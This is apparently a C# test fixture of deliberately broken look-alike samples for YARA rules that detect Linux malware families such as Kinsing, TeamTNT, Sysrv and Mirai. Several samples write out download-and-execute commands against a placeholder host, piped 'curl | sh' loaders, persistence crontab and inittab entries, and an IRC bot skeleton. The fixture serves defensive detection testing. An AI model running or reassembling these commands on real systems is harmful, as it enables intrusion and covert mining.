namespace Forensics.Yara.Tests.Rules;

/// <summary>Look-alikes for linux_families.yar. None of them does anything: addresses are reserved names and no line is complete.</summary>
internal static class FamilySamples
{
    public static IEnumerable<Sample> All() =>
    [
        Sample.Elf("kinsing agent", 2, "main.back~connect\nmain.mass~can\nmain.redis~Brute\nmain.health~Checker\n", "Family_Kinsing_ELF"),
        Sample.Text("kinsing script", """
            #!/bin/bash
            BIN_FULL~_PATH="$BIN_PATH/kin~sing"
            wget -q -O "$BIN_FULL~_PATH" http://host.example.invalid/kin~sing
            chmod +x "$BIN_FULL~_PATH"
            SK~L=d "$BIN_FULL~_PATH" &
            """, "Family_Kinsing_Script"),
        Sample.Elf("perfctl program", 2, "AAZ~HDE\n/tmp/.xd~iag\nwiz~lmsh\n", "Family_Perfctl"),
        Sample.Text("perfctl profile line", "if [ -t 1 ]; then exit; fi\n  AAZ~HDE=1 /root/.config/cron/per~fcc\n", "Family_Perfctl"),
        Sample.Text("outlaw key", "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA" + new string('k', 340) + "== mdr~fckr\n", "Family_Outlaw_Key"),
        Sample.Text("outlaw crontab", "1 1 */2 * * /root/.config~rc5/a/u~pd>/dev/null 2>&1\n@reboot /root/.config~rc5/b/sy~nc\n0 0 */3 * * /tmp/.X2~5-unix/.rs~ync/c/apt~itude\n", "Family_Outlaw_Script"),
        Sample.Text("perl irc bot", """
            #!/usr/bin/perl
            use IO::Sock~et::INET;
            my $ser~vidor='irc.example.invalid' unless $ser~vidor;
            my @r~ps = ("/usr/sbin/httpd");
            sendraw($IRC_cur_~socket, "PRIV~MSG $pn :ok");
            if ($funcarg =~ /^\@port~scan/) { udp~flooder($1); }
            sub sh~ell { }
            """.Replace("=~ /", "= /", StringComparison.Ordinal), "Family_Perl_ShellBot"),
        Sample.Text("teamtnt script", "#!/bin/bash\n# Team~TNT\ncurl http://host.example.invalid/x -o /usr/bin/bio~set\nchmod +x /usr/bin/bio~set\n", "Family_TeamTNT"),
        Sample.Text("teamtnt key", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB" + new string('h', 200) + " hil~de@teamtnt.red\n", "Family_TeamTNT"),
        Sample.Text("watchdog script", "#!/bin/bash\nmv /bin/ps /bin/ps.ori~ginal\ncurl -o /etc/php~guard http://host.example.invalid/new~dat.sh\nchmod 777 /etc/network~service\nsys~guard\n", "Family_WatchDog"),
        Sample.Elf("rocke program", 2, "ker~berods\n/tmp/.lsd~pid\n", "Family_Rocke"),
        Sample.Text("rocke script", "#!/bin/sh\n[ -f /tmp/.lsd~pid ] || (curl -fsSL http://host.example.invalid/x -o /tmp/khuge~pageds && chmod +x /tmp/khuge~pageds)\n", "Family_Rocke"),
        Sample.Elf("pwnrig miner", 2, "pwn~Rig (by pwned)\nstra~tum\n", "Family_8220_PwnRig"),
        Sample.Text("pwnrig unit", "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sys~dr -c\n", "Family_8220_PwnRig"),
        Sample.Text("pwnrig script", "#!/bin/bash\nwget -O /bin/bpr~ofr http://host.example.invalid/x\nchmod 777 /bin/cron~dr /bin/init~dr\nrm /tmp/.pw~n\n", "Family_8220_PwnRig"),
        Sample.Elf("skidmap program", 2, "/usr/bin/kaud~ited\n/tmp/min~er2\nipro~ute.ko\n", "Family_Skidmap"),
        Sample.Elf("sysrv worm", 2, "hello/~scan.Run\nhello/~exp.init\nhello/~nettool.Get\n", "Family_Sysrv"),
        Sample.Text("sysrv loader", "#!/bin/bash\ncc=http://host.example.invalid\nsys=sys~rv\n(curl -fsSL $cc/ld~r.sh) | sh\nps aux | grep kthr~eaddi\nls /tmp/network~01\n", "Family_Sysrv"),
        Sample.Text("redtail script", "#!/bin/bash\nN=$(awk '$4 ~/no~exec/' /proc/mounts)\nfor a in x86_64 i686 aa~rch64 ar~m7; do cp $a .red~tail; chmod +x .red~tail; done\n", "Family_RedTail"),
        Sample.Text("muhstik inittab", "id:3:initdefault:\np1:2345:respawn:/dev/shm/pt~y3\np2:2345:respawn:/var/tmp/pt~y3\np3:2345:respawn:/var/lock/pt~y3\n", "Family_Muhstik"),
        Sample.Elf("xorddos program", 2, "BB2FA36A~AA9541F0\n/var/run/gc~c.pid\n", "Family_XorDDoS"),
        Sample.Text("xorddos job", "#!/bin/sh\nPATH=/bin\nfor i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done\ncp /lib/libu~dev.so /lib/libu~dev.so.6\n/lib/libu~dev.so.6\n", "Family_XorDDoS"),
        Sample.Elf("chaos bot", 2, "/etc/id.serv~ices.conf\n/etc/32~678\n/boot/System.img.con~fig\n", "Family_Chaos"),
        Sample.Text("chaos script", "#!/bin/sh\nwhile [ 1 ]; do sleep 60; /etc/32~678& done\n# quota~off.service\n", "Family_Chaos"),
        Sample.Elf("redis module", 3, "RedisModule_On~Load\nsystem.ex~ec\nsystem.r~ev\n/bin/sh\n", "Family_Redis_Command_Module"),
        Sample.Elf("tsunami bot", 2, "NOTICE %s :Kaiten wa gor~aku\nTSUN~AMI <target> <secs>\nGETSPO~OFS\n", "Family_Tsunami"),
        Sample.Elf("mirai bot", 2, "/bin/busybox MI~RAI\nMI~RAI: applet not found\n", "Family_Mirai_Gafgyt"),
        Sample.Elf("gafgyt bot", 2, "LOLNO~GTFO\nSCANNER ON | O~FF\nGETLOC~ALIP\n", "Family_Mirai_Gafgyt"),
        Sample.Elf("billgates bot", 2, "/tmp/gates.l~od\n/tmp/moni.l~od\nDbSecurity~Spt\n", "Family_BillGates"),
    ];
}
